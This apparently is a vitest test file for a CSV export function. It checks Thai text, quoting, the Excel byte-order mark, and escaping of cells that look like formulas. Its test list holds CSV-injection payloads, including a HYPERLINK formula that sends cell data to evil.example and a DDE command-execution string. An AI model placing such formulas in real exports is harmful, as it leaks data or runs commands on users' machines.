import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { writeCsv } from './write-csv.ts';

const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });

test('Thai, quotes, commas and nothing come through, with the mark that Excel needs', () => {
  const text = writeCsv(
    ['รหัส', 'นาที'],
    [
      ['ES-6911-0412', 8.5],
      ['บอกว่า "ช่วย", แล้ว', null],
    ],
  );
  expect(text.startsWith('\ufeff')).toBe(true);
  expect(read(text)).toEqual([
    ['รหัส', 'นาที'],
    ['ES-6911-0412', '8.5'],
    ['บอกว่า "ช่วย", แล้ว', ''],
  ]);
});

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|’/C calc’!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\u200b=1',
  '＝1＋1',
  '|calc',
  '%0A',
])('%j is text and no formula', (cell) => {
  expect(read(writeCsv(['a'], [[cell]]))[1]?.[0]).toMatch(/^'/);
});

test('whatever people wrote: as many rows and cells as were given, and no cell that begins like a formula', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ' ', '\t', '\r', '\n', '"', ',', ';', '\u0000', 'ก') }),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 4 }), (rows) => {
      const [, ...back] = read(writeCsv(['a', 'b'], rows));
      expect(back).toHaveLength(rows.length);
      for (const row of back) {
        expect(row).toHaveLength(2);
        for (const each of row) expect(each).not.toMatch(/^[\s]*[=+\-@]/);
      }
    }),
    { seed: 20_261_121, numRuns: 500 },
  );
});
